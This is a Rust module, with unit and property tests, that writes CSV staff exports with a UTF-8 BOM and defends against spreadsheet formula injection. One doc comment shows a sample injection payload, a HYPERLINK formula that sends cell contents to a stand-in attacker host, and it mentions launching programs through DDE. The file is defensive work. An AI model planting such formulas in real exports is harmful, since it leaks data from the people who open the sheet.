//! RFC 4180 CSV for staff exports, written so that spreadsheet programs open it safely and show
//! Chinese (and every other) name correctly.

use std::borrow::Cow;

/// The UTF-8 byte-order mark every export starts with. Excel reads a CSV without it in the
/// system's legacy code page, which turns 陳 into mojibake; with it, Excel, Numbers, LibreOffice and
/// Google Sheets all read UTF-8.
pub const BOM: char = '\u{FEFF}';

/// First characters that make a spreadsheet treat a cell as a formula (OWASP, "CSV Injection"):
/// `=`, `+`, `-`, `@`, and tab and carriage return, which some programs skip before looking again.
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Writes a CSV file: a BOM, the header record (left out when `header` is empty), then one record
/// per row, each ending with CRLF.
///
/// Fields are quoted when they contain a comma, a double quote, CR or LF, with quotes doubled
/// (RFC 4180 §2). Each field first goes through [`guard_formula`]. Rows are written as given: the
/// caller keeps their length equal to the header's.
pub fn to_csv(header: &[&str], rows: &[Vec<String>]) -> String {
    let mut out = String::new();
    out.push(BOM);
    if !header.is_empty() {
        push_record(&mut out, header);
    }
    for row in rows {
        push_record(&mut out, row);
    }
    out
}

/// Makes a field safe to open in a spreadsheet: a field that starts with one of
/// [`FORMULA_TRIGGERS`] gets a leading `'`.
///
/// Exports carry text other people typed (a session note, an organization name). Opened in Excel
/// or LibreOffice, a cell such as `=HYPERLINK("http://evil.example/?"&A1, "Click")` would run as a
/// formula on a staff member's machine and can leak the sheet or start programs through DDE. The
/// apostrophe makes the spreadsheet show the text as text.
///
/// Plain decimal numbers (`-3`, `+886912345678`, `-0.5`) are left alone: they cannot be formulas,
/// and a quote would turn a negative rating change into text that no longer sums.
pub fn guard_formula(field: &str) -> Cow<'_, str> {
    let starts_with_trigger = field.starts_with(FORMULA_TRIGGERS);
    if starts_with_trigger && !is_plain_number(field) {
        Cow::Owned(format!("'{field}"))
    } else {
        Cow::Borrowed(field)
    }
}

/// Whether `field` is an optional sign, digits, and optionally a point and more digits.
fn is_plain_number(field: &str) -> bool {
    let unsigned = field.strip_prefix(['+', '-']).unwrap_or(field);
    let (whole, fraction) = match unsigned.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (unsigned, None),
    };
    let all_digits =
        |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

fn push_record<S: AsRef<str>>(out: &mut String, fields: &[S]) {
    for (index, field) in fields.iter().enumerate() {
        if index > 0 {
            out.push(',');
        }
        let field = guard_formula(field.as_ref());
        // A record of one empty field would otherwise be an empty line, which many readers skip.
        let lone_empty_field = fields.len() == 1 && field.is_empty();
        if lone_empty_field || field.contains([',', '"', '\r', '\n']) {
            out.push('"');
            out.push_str(&field.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&field);
        }
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use crate::csv::{guard_formula, to_csv, BOM};

    /// A strict RFC 4180 reader, here only to check the writer: it wants the BOM, CRLF after every
    /// record, and quotes only around whole fields.
    pub(crate) fn parse(text: &str) -> Result<Vec<Vec<String>>, String> {
        enum State {
            FieldStart,
            Unquoted,
            Quoted,
            AfterClosingQuote,
        }
        let body = text.strip_prefix(BOM).ok_or("missing BOM")?;
        let mut records = Vec::new();
        let mut record = Vec::new();
        let mut field = String::new();
        let mut state = State::FieldStart;
        let mut chars = body.chars().peekable();
        while let Some(ch) = chars.next() {
            state = match (state, ch) {
                (State::Quoted, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                    State::Quoted
                }
                (State::Quoted, '"') => State::AfterClosingQuote,
                (State::Quoted, other) => {
                    field.push(other);
                    State::Quoted
                }
                (State::FieldStart, '"') => State::Quoted,
                (_, ',') => {
                    record.push(std::mem::take(&mut field));
                    State::FieldStart
                }
                (_, '\r') if chars.peek() == Some(&'\n') => {
                    chars.next();
                    record.push(std::mem::take(&mut field));
                    records.push(std::mem::take(&mut record));
                    State::FieldStart
                }
                (State::AfterClosingQuote, other) => {
                    return Err(format!("{other:?} after a closing quote"))
                }
                (_, '"' | '\r' | '\n') => return Err(format!("bare {ch:?} in an unquoted field")),
                (State::FieldStart | State::Unquoted, other) => {
                    field.push(other);
                    State::Unquoted
                }
            };
        }
        if !matches!(state, State::FieldStart) || !record.is_empty() {
            return Err("the last record does not end with CRLF".to_owned());
        }
        Ok(records)
    }

    fn strings(fields: &[&str]) -> Vec<String> {
        fields.iter().map(|field| (*field).to_owned()).collect()
    }

    #[test]
    fn fields_are_quoted_only_when_they_must_be() {
        let table = [
            ("plain", "plain"),
            ("", ""),
            ("with space", "with space"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("\"", "\"\"\"\""),
            ("line\nbreak", "\"line\nbreak\""),
            ("carriage\rreturn", "\"carriage\rreturn\""),
            ("crlf\r\ninside", "\"crlf\r\ninside\""),
            ("semi;colon", "semi;colon"),
            ("=1+1", "'=1+1"),
            ("+SUM(A1)", "'+SUM(A1)"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            (
                "=HYPERLINK(\"x\",\"y\")",
                "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"",
            ),
            ("=a,b", "\"'=a,b\""),
            ("-3", "-3"),
            ("+886912345678", "+886912345678"),
            ("-0.5", "-0.5"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("1=1", "1=1"),
            ("a@b.example", "a@b.example"),
        ];
        for (field, expected) in table {
            let csv = to_csv(&["a", "b"], &[strings(&["x", field])]);
            let expected_csv = format!("{BOM}a,b\r\nx,{expected}\r\n");
            assert_eq!(csv, expected_csv, "field {field:?}");
        }
    }

    #[test]
    fn a_lone_empty_field_is_quoted_so_the_record_is_not_a_blank_line() {
        let csv = to_csv(&["note"], &[strings(&[""]), strings(&["x"])]);
        assert_eq!(csv, format!("{BOM}note\r\n\"\"\r\nx\r\n"));
        assert_eq!(
            parse(&csv),
            Ok(vec![strings(&["note"]), strings(&[""]), strings(&["x"])])
        );
    }

    #[test]
    fn chinese_names_are_written_as_utf8_after_a_bom() {
        let csv = to_csv(
            &["姓名", "單位", "備註"],
            &[strings(&[
                "陳怡君",
                "國立臺灣大學",
                "喜歡「咖啡」，也說台語",
            ])],
        );
        assert!(
            csv.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF]),
            "UTF-8 BOM first"
        );
        assert_eq!(
            csv,
            format!("{BOM}姓名,單位,備註\r\n陳怡君,國立臺灣大學,喜歡「咖啡」，也說台語\r\n"),
            "a full-width comma is not a separator and needs no quotes"
        );
    }

    #[test]
    fn the_header_is_left_out_when_empty_and_records_end_with_crlf() {
        let no_rows: Vec<Vec<String>> = Vec::new();
        let table = [
            (Vec::new(), no_rows.clone(), ""),
            (vec!["a"], no_rows, "a\r\n"),
            (
                Vec::new(),
                vec![strings(&["1", "2"]), strings(&["3", "4"])],
                "1,2\r\n3,4\r\n",
            ),
        ];
        for (header, rows, expected) in table {
            let expected = format!("{BOM}{expected}");
            assert_eq!(to_csv(&header, &rows), expected, "{header:?} {rows:?}");
        }
    }

    #[test]
    fn guard_formula_borrows_safe_fields() {
        assert!(matches!(
            guard_formula("safe"),
            std::borrow::Cow::Borrowed("safe")
        ));
        assert_eq!(guard_formula("=x"), "'=x");
    }
}

#[cfg(all(test, not(target_arch = "wasm32")))]
mod properties {
    use proptest::prelude::*;

    use crate::csv::tests::parse;
    use crate::csv::{guard_formula, is_plain_number, to_csv, FORMULA_TRIGGERS};

    fn guarded(fields: &[String]) -> Vec<String> {
        fields
            .iter()
            .map(|field| guard_formula(field).into_owned())
            .collect()
    }

    proptest! {
        #[test]
        fn parsing_the_output_returns_the_guarded_table(
            header in prop::collection::vec(any::<String>(), 1..5),
            rows in prop::collection::vec(prop::collection::vec(any::<String>(), 1..5), 0..6),
        ) {
            let header_refs: Vec<&str> = header.iter().map(String::as_str).collect();
            let csv = to_csv(&header_refs, &rows);
            let mut expected = vec![guarded(&header)];
            expected.extend(rows.iter().map(|row| guarded(row)));
            prop_assert_eq!(parse(&csv), Ok(expected));
        }

        #[test]
        fn fields_without_a_trigger_round_trip_unchanged(
            rows in prop::collection::vec(
                prop::collection::vec("[^=+@\\t\\r-].*|", 1..4),
                1..5,
            ),
        ) {
            let csv = to_csv(&["a"], &rows);
            let mut expected = vec![vec!["a".to_owned()]];
            expected.extend(rows.iter().cloned());
            prop_assert_eq!(parse(&csv), Ok(expected));
        }

        #[test]
        fn no_parsed_field_starts_a_formula(field in any::<String>()) {
            let parsed = parse(&to_csv(&["a"], &[vec![field]]));
            let Ok(records) = parsed else {
                return Err(TestCaseError::fail("the output did not parse"));
            };
            for value in records.iter().flatten() {
                prop_assert!(
                    !value.starts_with(FORMULA_TRIGGERS) || is_plain_number(value),
                    "{:?}",
                    value
                );
            }
        }
    }
}
